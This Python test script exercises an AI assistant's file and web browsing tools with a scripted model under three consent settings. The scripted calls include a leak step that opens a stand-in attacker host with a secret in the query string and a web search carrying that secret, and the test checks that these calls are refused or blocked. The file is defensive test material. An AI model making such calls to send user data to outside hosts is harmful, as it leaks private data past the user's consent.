"""A turn of a scripted model over the user's files and the web: ``python -m tests.web.turn STEP``.

``off``: the web is off; it searches and reads a folder, which is indexed for that, follows a link,
and tries the web nevertheless. ``asked``: the web is on; it searches the files, and then wants to
open an address of its own, and to search with what it has read; the user is asked about both, and
refuses. ``allowed``: he types addresses, which it opens.
"""

from __future__ import annotations

import sys
import tempfile
import threading
from contextlib import ExitStack, closing
from pathlib import Path

from app.base.answer_events import PartAdded
from app.base.settings import Folders
from app.base.types import Message, Part, PartKind, Request, Role
from app.network.client import Network
from app.network.page_client import PageClient
from app.tools.browser.browser import Browser
from app.tools.browser.library import SourceLibrary
from app.tools.browser.source import PageText, Source
from app.tools.browser.web.web_options import WebOptions
from app.tools.browser.web.web_source import WebSource
from app.tools.loop import ToolLoop
from app.tools.registry import Registry
from app.tools.tool_events import ConsentAsked, Decision
from tests.fakes.browsing import Browse, BrowsingModel, find, open_, search
from tests.fakes.tools import model
from tests.fakes.web_sites import EVIL, SECRET
from tests.web import namespace

_OUTSIDE = "http://151.101.1.1/"


class _Texts:
    def page(
        self, data: bytes, media_type: str, charset: str, address: str, cancel: threading.Event
    ) -> PageText:
        return PageText(address, "", data.decode())


def main(step: str) -> int:
    with tempfile.TemporaryDirectory() as name, ExitStack() as stack:
        folder = Path(name)
        network = Network(folder / "connections.log")
        client = PageClient(lambda: network, lambda: False)
        web = WebSource(lambda: client, _Texts, WebOptions, bool, str)
        files = _files(folder, stack)
        registry = Registry(Browser(lambda: (files, web)).tools)
        typed = f"What is in http://{EVIL}/ and {_OUTSIDE} ?" if step == "allowed" else "Copper?"
        request = Request(
            model(),
            (Message(Role.USER, (Part(typed),)),),
            tools=registry.declared([files.key] if step == "off" else [files.key, "web"]),
        )
        asked, ended = 0, list[Part]()
        scripted = BrowsingModel(*_CALLS[step], "Copper is a metal.")
        for event in ToolLoop(scripted, registry).stream(request, threading.Event()):
            if isinstance(event, ConsentAsked):
                asked += 1
                event.consent.decide(Decision.REFUSE)
            elif isinstance(event, PartAdded) and event.part.kind is PartKind.RESULT:
                ended.append(event.part)
        outcomes = [str(part.facts.outcome) for part in ended if part.facts]
        print(f"    {step}: asked {asked} times; {', '.join(outcomes)}")
        return int((asked, outcomes) != _EXPECTED[step])


def _files(folder: Path, stack: ExitStack) -> Source:
    """Return a folder of the user's, indexed by the real process."""
    own = folder / "Notes"
    own.mkdir()
    (folder / "data").mkdir()
    (own / "copper.md").write_text("# Copper\n\nA metal; see [tin](tin.md).\n", encoding="utf-8")
    (own / "tin.md").write_text("# Tin\n\nTin melts at 232 degrees.\n", encoding="utf-8")
    library = stack.enter_context(
        closing(SourceLibrary(Folders(folder / "data"), lambda changed: None))
    )
    entry = library.add_folder(own)
    library.wait(entry.key, threading.Event())
    return next(each for each in library.sources() if each.key == entry.key)


_LEAK = open_(f"http://{EVIL}/?d={SECRET}")
_WORDS = search(f"{SECRET} {'9' * 40}", source="web")
_CALLS: dict[str, list[Browse]] = {
    "off": [search("copper"), open_(0), open_(0), find("232"), _LEAK, _WORDS],
    "asked": [search("copper", source="files"), open_(0), _LEAK, _WORDS],
    "allowed": [open_(f"http://{EVIL}/"), open_(_OUTSIDE)],
}
_EXPECTED = {
    "off": (0, ["done", "done", "done", "done", "invalid", "done"]),
    "asked": (2, ["done", "done", "refused", "refused"]),
    "allowed": (0, ["failed", "failed"]),
}


if __name__ == "__main__":
    if not namespace.is_inside():
        sys.exit(
            "Run it by `python -m tests.web checks`: outside the namespace it has the internet."
        )
    sys.exit(main(sys.argv[1]))
